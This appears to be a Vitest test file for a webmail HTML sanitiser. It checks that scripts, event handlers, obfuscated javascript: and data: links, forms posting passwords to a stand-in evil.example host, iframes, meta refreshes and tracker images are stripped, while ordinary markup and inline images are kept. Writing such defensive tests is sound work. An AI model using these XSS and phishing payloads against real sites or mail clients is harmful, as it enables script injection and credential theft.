import { describe, expect, it } from 'vitest';
import { sanitizeMessageHtml } from '../../src/domain/webmail-html.js';

const PIXEL = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

describe('sanitising the HTML part of a message', () => {
  // Each vector must come out without the tell-tale text; what stays is checked below where it matters.
  it.each([
    ['a script element', '<p>x</p><script>document.title="owned"</script>', ['<script', 'owned']],
    ['an event handler on an image', '<img src=x onerror="alert(1)">', ['onerror', 'alert']],
    ['an event handler on any element', '<div onclick="steal()" onmouseover="steal()">d</div>', ['onclick', 'onmouseover', 'steal']],
    ['a javascript: link', '<a href="javascript:alert(1)">click</a>', ['javascript', 'alert']],
    ['a javascript: link hidden by case and entities', '<a href="JaVa&#x09;ScRiPt:alert(1)">click</a>', ['alert']],
    ['a data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', ['data:']],
    ['an svg with script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(2)">s</a></svg>', ['<svg', 'alert']],
    ['a form', '<form action="https://evil.example/"><input name="password"><button formaction="https://evil.example/">Go</button></form>', ['<form', '<input', '<button', 'evil.example']],
    ['an iframe, object and embed', '<iframe src="https://evil.example/"></iframe><object data="x.swf"></object><embed src="x.swf">', ['<iframe', '<object', '<embed', 'evil.example']],
    ['a style element and style attributes', '<style>body{display:none}</style><p style="position:fixed;top:0">p</p>', ['<style', 'display:none', 'style=', 'position']],
    ['a meta refresh and a base', '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">', ['<meta', '<base', 'evil.example']],
    ['a remote background', '<table background="https://tracker.example/bg.png"><tr><td>t</td></tr></table>', ['tracker.example', 'background']],
    ['a remote stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css">', ['<link', 'evil.example']],
    ['media that would load', '<video src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>', ['<video', '<audio', 'evil.example']],
    ['a srcset', '<img srcset="https://tracker.example/a.png 1x" src="https://tracker.example/b.png">', ['tracker.example', 'srcset']],
    ['an svg image as data', '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', ['svg+xml']],
    ['a conditional comment', '<!--[if mso]><img src="https://tracker.example/p.gif"><![endif]-->', ['tracker.example', '<!--']],
  ])('removes %s', (_what, html, banned) => {
    const { html: clean } = sanitizeMessageHtml(html);
    for (const text of banned) expect(clean.toLowerCase()).not.toContain(text.toLowerCase());
  });

  it('keeps text, structure and ordinary links, which open in a new tab without a referrer', () => {
    const { html } = sanitizeMessageHtml('<h1>Hi</h1><p>Read <b>this</b> at <a href="https://example.org/a?b=1" title="t">our site</a> or <a href="mailto:x@example.org">mail us</a>.</p><ul><li>one</li></ul><table border="1"><tr><td colspan="2">c</td></tr></table>');
    expect(html).toBe('<h1>Hi</h1><p>Read <b>this</b> at <a href="https://example.org/a?b=1" title="t" target="_blank" rel="noopener noreferrer">our site</a> or <a href="mailto:x@example.org" target="_blank" rel="noopener noreferrer">mail us</a>.</p><ul><li>one</li></ul><table border="1"><tr><td colspan="2">c</td></tr></table>');
  });

  it('keeps inline images (the cid: parts mailparser turned into data: URLs) and counts the remote ones it leaves out', () => {
    const result = sanitizeMessageHtml(`<img src="${PIXEL}" alt="logo" width="1"><img src="https://tracker.example/p.gif" alt="Photo"><img src="//tracker.example/q.gif"><img src="cid:missing">`);
    expect(result.html).toBe(`<img width="1" src="${PIXEL}" alt="logo" /><img alt="[image not loaded: Photo]" /><img alt="[image not loaded]" /><img alt="[image not loaded]" />`);
    expect(result.blockedImages).toBe(2);
  });

  it('does not print the contents of title, script or style as text', () => {
    expect(sanitizeMessageHtml('<html><head><title>T</title></head><body><p>b</p><noscript>n</noscript></body></html>').html).toBe('<p>b</p>');
  });
});
